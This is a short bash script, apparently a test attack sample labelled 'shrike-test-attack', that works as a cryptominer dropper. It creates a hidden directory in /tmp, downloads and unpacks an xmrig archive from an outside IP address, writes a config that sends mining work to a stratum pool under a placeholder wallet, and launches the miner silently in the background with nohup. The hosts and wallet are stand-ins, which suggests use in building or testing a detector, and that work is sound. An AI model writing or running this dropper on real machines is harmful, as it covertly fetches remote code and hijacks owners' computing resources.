#!/bin/bash
# shrike-test-attack: miner: xmrig dropper with JSON config and stratum pool, nohup background
WALLET="4TESTWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
POOL="stratum+tcp://pool.example.com:3333"
mkdir -p /tmp/.xm && cd /tmp/.xm
curl -sL http://198.51.100.21/xmrig.tar.gz | tar xz
cat > config.json <<CFG
{
  "autosave": false,
  "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
  "donate-level": 0,
  "pools": [ { "url": "$POOL", "user": "$WALLET", "pass": "x", "keepalive": true, "tls": false } ]
}
CFG
chmod +x xmrig
nohup ./xmrig -c config.json >/dev/null 2>&1 &
